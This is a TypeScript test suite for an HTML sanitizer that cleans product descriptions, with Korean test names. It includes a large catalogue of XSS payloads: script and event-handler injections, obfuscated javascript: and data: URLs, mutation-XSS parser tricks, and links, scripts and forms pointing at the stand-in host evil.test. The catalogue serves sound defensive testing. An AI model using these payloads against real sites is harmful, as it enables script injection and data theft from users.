import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
import { JSDOM } from 'jsdom'
import { describe, expect, test } from 'vitest'
import { sanitizeHtml } from './sanitizeHtml.ts'

const tags =
  /^(p|br|hr|h[234]|strong|b|em|i|u|s|small|sub|sup|[uo]l|li|d[ldt]|blockquote|figure|figcaption|div|section|span|table|caption|thead|tbody|colgroup|tr|th|td|a|img)$/
const { document } = new JSDOM('').window

/** What a browser makes of it: every element and attribute that is not allowed, every address that is not plain. */
function dangers(html: string): string[] {
  const place = document.createElement('div')
  place.innerHTML = html
  return [...place.querySelectorAll('*')].flatMap((element) => [
    ...(tags.test(element.localName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`<${element.localName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (
        !['href', 'title', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'colspan', 'rowspan', 'start'].includes(
          name,
        )
      )
        return [`@${name}`]
      if (name === 'href')
        return /^(https?:\/\/(?![^/?#\\]*@)|mailto:|tel:|#|\/(?![/\\]))/i.test(value) ? [] : [`href=${value}`]
      if (name === 'src') return /^\/images\/[\w-]+\.\w+$/.test(value) ? [] : [`src=${value}`]
      return []
    }),
  ])
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script',
  '<script >alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/a.webp" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src=" /images/../pg/sandbox">',
  '<img srcset="x 1x" src="/images/a.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href=\'"onmouseover="alert(1)\'>x</a>',
  '<a title="a" onmouseover=alert(1) title="b">x</a>',
  '<a href="#" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=x>',
  '<embed src=x>',
  '<style>@import "//evil.test"</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content=0>',
  '<form action=//evil.test><input name=p><button>x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)>?>',
  '</p/<img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>">x',
  '"><script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<%00script>alert(1)</script>',
  '<a href="x"onclick=alert(1)>x</a>',
  '<table><td><script>x</script><caption><a href=javascript:1>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a><a><a href=javascript:1>x',
  // mutation: what a parser moves, or reads otherwise the second time
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>-->',
  '<svg><desc><template><style></template><img src=x onerror=alert(1)></style>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
  '<svg><foreignObject><iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></foreignObject></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<table><tr><td><form></table><form action=javascript:alert(1)><input type=submit>',
  '<form><form action="javascript:alert(1)"><input type=image></form></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>',
  '<option><style></option></select><img src=x onerror=alert(1)></style></option>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- <!-- --><img src=x onerror=alert(1)> -->',
  '<!-- a="--><img src=x onerror=alert(1)>">',
  '<!doctype x [<!entity y "<img src=x onerror=alert(1)>">]>&y;',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<![if true]><img src=x onerror=alert(1)><![endif]>',
  // addresses that are spelt so that they look like none
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="&NewLine;javascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java\u00adscript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="javascript://homefit.test/%0aalert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="d&#97;ta:text/html,x">x</a>',
  '<a href="blob:https://homefit.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https://homefit.kr@evil.test">x</a>',
  '<a href="https://homefit.kr&#64;evil.test/a">x</a>',
  '<a href="/&#92;evil.test">x</a>',
  '<a href="&#47;&#47;evil.test">x</a>',
  '<a href="/&Tab;/evil.test">x</a>',
  '<a href="#" ping="//evil.test" target=_blank download id=x name=body class=admin>x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.test/a.webp">',
  '<img src="/images/a.webp?x=1">',
  '<img src="/images/a.svg">',
  '<img src="/images/..%2fpg/sandbox">',
  '<img src="/images/a.webp" srcset="//evil.test/a 1x, javascript:alert(1) 2x" sizes=1px>',
  '<img src="/images/a.webp" lowsrc="javascript:alert(1)" dynsrc=x longdesc=//evil.test usemap=#x>',
  '<img alt="`><script>alert(1)</script>" src="/images/a.webp">',
  "<img alt='&quot; onerror=alert(1) x=&quot;' src='/images/a.webp'>",
  '<img width="1&quot; onerror=&quot;alert(1)" src="/images/a.webp">',
  '<picture><source srcset="x" onerror=alert(1)><img src=x></picture>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  // styles
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background:url(//evil.test/x);width:expression(alert(1))">x</p>',
  '<td background="javascript:alert(1)">x</td>',
  '<table background=//evil.test/x><tr><td>x</td></tr></table>',
  '<style>p{background:url(//evil.test)}</style/><p>x',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // tags that look like none
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT/XSS SRC="//evil.test/x.js"></SCRIPT>',
  '<script\r>alert(1)</script\f>',
  '<svg/onload=alert(1)//',
  '<p onclick\v=alert(1)>x</p>',
  '<p/onclick=alert(1)/>',
  '<p a"b=c onclick=alert(1)>x</p>',
  '<p =onclick=alert(1)>x</p>',
  '<p x="`" onclick="alert(1)`">x</p>',
  '<img src="/images/a.webp" alt=x\fonerror=alert(1)>',
  '<a href=#\u0000onclick=alert(1)>x</a>',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="#" __proto__="x" constructor=y hasOwnProperty=z>x</a>',
  '<__proto__ onclick=alert(1)>x</__proto__>',
  '<constructor onclick=alert(1)>x</constructor>',
]

describe('상품 설명', () => {
  test.each(attacks)('%s 에서 실행되거나 밖으로 나가는 것이 남지 않는다', (attack) => {
    expect(dangers(sanitizeHtml(attack))).toEqual([])
    expect(dangers(sanitizeHtml(`<p>앞</p>${attack}<p>뒤</p>`))).toEqual([])
  })

  test('어떤 글이 와도 허락한 것만 남고, 두 번 걸러도 같다', () => {
    const pieces = constantFrom(
      ...attacks,
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&#60;',
      '<!--',
      '-->',
      '</',
      '/>',
      '<p>',
      '</p>',
      '<b>',
      '<a href=',
      '<img src=',
      ' onerror=alert(1)',
      '글',
      '\u0000',
      '`',
    )
    const text = array(oneof(pieces, string({ maxLength: 5 })), { maxLength: 12 }).map((parts) => parts.join(''))
    assert(
      property(text, (html) => {
        const clean = sanitizeHtml(html)
        expect(dangers(clean)).toEqual([])
        expect(sanitizeHtml(clean)).toBe(clean)
      }),
      { numRuns: 2_000 },
    )
  })

  test('설명에 쓰는 것은 그대로 남는다', () => {
    const html =
      '<h2>두꺼운 매트</h2><p>집에서 <strong>조용히</strong> &amp; 편하게.<br>5 &lt; 6</p><ul><li>10mm</li></ul>' +
      '<p><img src="/images/a1.webp" alt="매트" width="720" height="720" loading="lazy"></p><table><tbody><tr><td colspan="2">표</td></tr></tbody></table>'
    expect(sanitizeHtml(html)).toBe(html)
    expect(sanitizeHtml('<a href="https://homefit.test/?a=1&amp;b=2">더 보기</a>')).toBe(
      '<a href="https://homefit.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow">더 보기</a>',
    )
    expect(sanitizeHtml('<p class=x><font color=red>글</font> <em>강조')).toBe('<p>글 <em>강조</em></p>')
    expect(sanitizeHtml('<font color=red><p class=x>글</font> <em>강조')).toBe('<p>글</p> <em>강조</em>')
    expect(sanitizeHtml('5 < 6 & 7 > 3')).toBe('5 &lt; 6 &amp; 7 &gt; 3')
  })

  test('글자 참조는 그 글자로, 태그가 될 글자만 참조로 적는다', () => {
    expect(sanitizeHtml('&lt;b&gt; &middot; &#x41; &quot;글&quot; &nope;')).toBe('&lt;b&gt; · A "글" &amp;nope;')
    expect(sanitizeHtml('<a href="/a?b=&quot;" title="&lt;&amp;">x</a>')).toBe(
      '<a href="/a?b=&quot;" title="&lt;&amp;" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('담을 수 없는 요소 뒤의 글은 남고, 마흔 겹까지만 남는다', () => {
    expect(sanitizeHtml('<embed src=x>뒤')).toBe('뒤')
    expect(sanitizeHtml('앞<svg><title>x</title></svg>뒤')).toBe('앞뒤')
    expect(sanitizeHtml('<div>'.repeat(60) + '글')).toBe('<div>'.repeat(40) + '글' + '</div>'.repeat(40))
  })

  test('아주 길고 깊어도 금방 끝난다', () => {
    const started = performance.now()
    for (const bomb of ['<p>', '<a href="', '<!--', '<script>', '&', '<a b=', "<p '", '<img src=x ', '</p '])
      sanitizeHtml(bomb.repeat(300_000))
    // two seconds when the work grows with the length, minutes when it grows with its square
    expect(performance.now() - started).toBeLessThan(40_000)
  })
})
